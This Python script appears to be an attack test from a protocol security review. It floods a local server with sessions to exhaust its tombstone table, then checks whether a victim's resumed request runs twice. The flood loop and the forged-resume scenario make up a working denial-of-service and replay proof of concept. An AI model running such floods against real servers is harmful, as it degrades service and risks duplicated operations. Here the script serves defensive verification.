"""ATTACK: exhaust the server's places for forgotten sessions (tombstones: "16 places per session place,
65,536 by default"). A flooder makes sessions, runs ONE call on each (so its line has run a call) and
lets each go silent; the table (4,096) then forgets the longest-silent ones for room, each leaving a
tombstone that is NOT a moved-on one (so, by security.md, not one the server may drop early).
Victim (key 1, page-following): call X under A ran, its reply and resends (<= 1 s apart) are dropped
on the path, so A is the first session forgotten (tombstone). Once the flooder has made more
tombstones than there are places, the victim's resend is let through (NO_SESSION, as A is gone) or a
NO_SESSION is forged; the victim resumes naming A (its current, younger than 175 s), resends X.
Claimed: X is refused (A's tombstone kept) or the flooder's INITs go unanswered (table_full); never X
run twice.

Usage: ATTACK_DIR=DIR python attack_tomb_exhaust.py PORT TOTAL same|other [RATE] [PROBE]
  PROBE (other only): then PROBE key-1 clients (one session, one call each) at 400/s: how many get one?
  TOTAL: sessions the flooder makes (e.g. 72000); same: flooder holds key 1 (the victim's);
  other: flooder holds key 3 (DIR/client3.json). RATE: sessions a second (default 450).
Who: on-path (drops X's reply and resends) + same-key insider or another key's holder. ~TOTAL/RATE+20 s."""
import sys, os, time, socket, struct
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "issue52_s65"))
from common import *
import common


def stats(port):  # the observer's session is renewed (it would pass 180 s)
    for i in range(3):
        common._obs.clear(); r = common.stats(port)
        if r: return r
    return {'tombstones': -1}


PORT = int(sys.argv[1]); TOTAL = int(sys.argv[2]); MODE = sys.argv[3]; RATE = float(sys.argv[4]) if len(sys.argv) > 4 else 450
PROBE = int(sys.argv[5]) if len(sys.argv) > 5 else 0
SRV = ("127.0.0.1", PORT)
fkey = load_client(os.path.join(AD, "client.json" if MODE == "same" else "client3.json"))
print("before:", stats(PORT))
v = Client(PORT); A = v.handshake(); X = os.urandom(32); rid = int.from_bytes(os.urandom(5), "big")
v.send(v.req_dgrams(1, rid, X, sess=A)[0]); print("X under A:", ans(v, A, 0.3), "(reply dropped on the path)")
t0 = time.monotonic(); tc_A = t0  # victim's age of A ~ t0

fs = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fs.bind(("127.0.0.1", 0))
fs.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20); fs.setblocking(False)
kid, psk = fkey
pend = {}; made = 0; acc = 0; calls = 0; nores = 0; frid = int.from_bytes(os.urandom(4), "big")
time.sleep(2.5)  # A silent > 2 s: the first to be forgotten


def drain():
    global acc, calls, frid
    while True:
        try:
            d = fs.recv(70000)
        except BlockingIOError:
            return
        h = parse_hdr(d)
        if h and h["typ"] == T_ACCEPT and h["req_id"] in pend:
            ini, e = pend.pop(h["req_id"])
            kc, ks, _, _ = derive(psk, ini, d, nb.crypto_scalarmult(e, d[34:66]))
            s = Sess(struct.unpack(">Q", d[26:34])[0], kc, ks, 0)
            acc += 1; frid += 1; calls += 1
            fs.sendto(s.seal(T_REQ, 2, frid, 0, 1, 1, 0, b"c"), SRV)  # one call: the line has run a call


last = time.monotonic(); nxt = 10; hist = []
while made < TOTAL:
    t = time.monotonic()
    want = int((t - t0 - 2.5) * RATE)
    while made < min(want, TOTAL):
        hid = int.from_bytes(os.urandom(6), "big") or 1; e = os.urandom(32)
        ini = make_init(psk, kid, hid, e, int(time.time() * 1000))
        pend[hid] = (ini, e); fs.sendto(ini, SRV); made += 1
        if made % 32 == 0:
            drain()
    drain()
    if len(pend) > 20000:
        pend.clear()
    if t - t0 > nxt:
        st = stats(PORT); hist.append(st); print(f"+{t-t0:.0f}s made {made} accepted {acc} :", st, flush=True); nxt += 10
    time.sleep(0.005)
time.sleep(0.5); drain()
st = stats(PORT); print(f"+{time.monotonic()-t0:.0f}s flood done: made {made} accepted {acc}:", st)
if MODE == "other" and PROBE:
    # another key's ordinary churn after the flood: key 1 clients, one session + one call each
    kid, psk = load_client(os.path.join(AD, "client.json")); pend.clear(); made = acc = 0; t1 = time.monotonic()
    while made < PROBE:
        want = int((time.monotonic() - t1) * 400)
        while made < min(want, PROBE):
            hid = int.from_bytes(os.urandom(6), "big") or 1; e = os.urandom(32)
            ini = make_init(psk, kid, hid, e, int(time.time() * 1000)); pend[hid] = (ini, e); fs.sendto(ini, SRV); made += 1
        drain(); time.sleep(0.005)
    time.sleep(0.5); drain()
    print(f"+{time.monotonic()-t0:.0f}s key 1 churn probe: {made} INITs, {acc} sessions made:", stats(PORT))
# the victim's resend of X under A is let through: NO_SESSION (A forgotten) -> resume naming A
v.send(v.req_dgrams(1, rid, X, sess=A)[0]); a = ans(v, A, 0.3); print(f"victim (A age {time.monotonic()-tc_A:.0f} s) resend under A ->", a)
if "NO_SESSION" not in a:
    print("(no NO_SESSION: an on-path attacker forges one)")
try:
    B = v.handshake(prev=A, timeout=1.5)
    v.send(v.req_dgrams(1, rid, X, sess=B)[0]); print("resumed B (prev=A); X resent under B:", ans(v, B, 0.4))
except TimeoutError:
    print("resume INIT unanswered (table_full?)")
print("after:", stats(PORT))
n = runs(X); print("X ran", len(n), "times", "<-- RAN TWICE" if len(n) > 1 else "")
